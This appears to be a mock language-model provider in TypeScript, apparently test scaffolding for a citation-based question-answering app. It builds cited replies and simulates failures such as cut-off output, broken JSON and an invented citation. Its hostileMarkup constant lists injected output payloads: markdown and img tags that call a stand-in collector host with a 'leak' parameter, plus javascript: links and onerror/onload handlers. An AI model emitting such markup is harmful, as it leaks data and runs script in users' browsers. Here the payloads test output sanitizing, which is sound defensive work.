/** What a model writes, whichever provider it belongs to: computed from the prompt, with sentences of its passages, each cited. */
import type { StandinAnswer } from '../service.js';
import { datasetReply } from './dataset-reply.js';
import { bestSentences, numberedPassages, questionOf, sentencesOf } from './prompt.js';
import { instanceOf } from './structured.js';
import { notesReply, sectionReply } from './summary-replies.js';

export interface ReplyRequest {
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly maxTokens: number;
  /** Undefined for free text, null for any JSON object. */
  readonly schema: unknown;
}

export interface Reply {
  readonly text: string;
  /** It came to the limit of tokens. */
  readonly isCut: boolean;
  readonly promptTokens: number;
  readonly replyTokens: number;
}

export function composeReply(request: ReplyRequest, mode: string): Reply {
  const written = spoil(
    write(request),
    request.schema === undefined || mode === 'broken-json' ? mode : '',
  );
  const words = written.split(' ');
  const isCut = words.length > request.maxTokens || mode === 'cut-at-limit';
  const text = isCut
    ? words.slice(0, Math.min(request.maxTokens, Math.ceil(words.length / 2))).join(' ')
    : written;
  const prompt = request.messages.map((message) => message.content).join(' ');
  return { text, isCut, promptTokens: tokens(prompt), replyTokens: tokens(text) };
}

/** The words of a text as a stream gives them, with the spaces behind them. */
export function piecesOf(text: string): string[] {
  return text.match(/\S+\s*/g) ?? [];
}

/** The events of a stream, half of them where it is to be cut. */
export function eventStream(
  said: readonly string[],
  ending: readonly string[],
  mode: string,
): StandinAnswer {
  const headers = {
    'content-type': 'text/event-stream; charset=utf-8',
    'cache-control': 'no-cache',
  };
  if (mode === 'cut-stream')
    return { status: 200, headers, body: said.slice(0, Math.ceil(said.length / 2)), isCut: true };
  return { status: 200, headers, body: [...said, ...ending] };
}

function write(request: ReplyRequest): string {
  const prompt = request.messages
    .filter((message) => message.role !== 'system')
    .map((message) => message.content)
    .join('\n');
  const everything = request.messages.map((message) => message.content).join('\n');
  const passages =
    numberedPassages(prompt).length > 0 ? numberedPassages(prompt) : numberedPassages(everything);
  const summary =
    request.schema === undefined
      ? sectionReply(prompt, passages)
      : (notesReply(request.schema, prompt, passages) ?? datasetReply(request.schema, prompt));
  if (summary !== null) return summary;
  const question = questionOf(prompt);
  const best = bestSentences(passages, question, 3);
  if (request.schema !== undefined) {
    const sentences =
      best.length > 0 ? best.map(({ text, number }) => `${text} [${number}]`) : sentencesOf(prompt);
    return JSON.stringify(
      request.schema === null
        ? { answer: sentences[0] ?? '' }
        : instanceOf(request.schema, sentences),
    );
  }
  if (best.length > 0)
    return best.map(({ text, number }) => `${text.replace(/[.!?]$/, '')} [${number}].`).join(' ');
  if (passages.length > 0) return refusalOf(everything);
  const sentences = sentencesOf(prompt.replaceAll('\n', ' ')).filter(
    (sentence) => sentence.length > 60,
  );
  if (sentences.length > 3) return sentences.slice(0, 3).join(' ');
  return `You asked: ${question.slice(0, 200)} I was given no passages, so I have nothing to cite.`;
}

/** What the prompt wants to hear when the passages hold no answer. */
function refusalOf(prompt: string): string {
  return (
    /write exactly:?\s*"?([^"\n]+)/i.exec(prompt)?.[1]?.trim() ??
    'The passages do not say anything about this question.'
  );
}

/** What a model may be talked into writing; whoever renders it as markup fetches the picture or sets `window.__x`. */
const hostileMarkup = [
  '![chart](https://collect.lectern.test/pixel?leak=1)',
  '[click here](javascript:window.__x=1)',
  '<img src="https://collect.lectern.test/pixel" onerror="window.__x=1">',
  '<svg onload="window.__x=1"></svg>',
  '\n\n![chart][leak]\n\n[leak]: https://collect.lectern.test/pixel?leak=2',
  '\n\n[data](data:text/html,leak) and [a page](https://collect.lectern.test/page)',
].join(' ');

function spoil(text: string, mode: string): string {
  if (mode === 'cites-unknown') return `${text} A later study found the opposite [97].`;
  if (mode === 'writes-image') return `${text} ${hostileMarkup}`;
  return mode === 'broken-json'
    ? `Sure! Here is the JSON:\n{"answer": "${text.slice(0, 20)}`
    : text;
}

/** About four characters each. */
function tokens(text: string): number {
  return Math.ceil(text.length / 4);
}
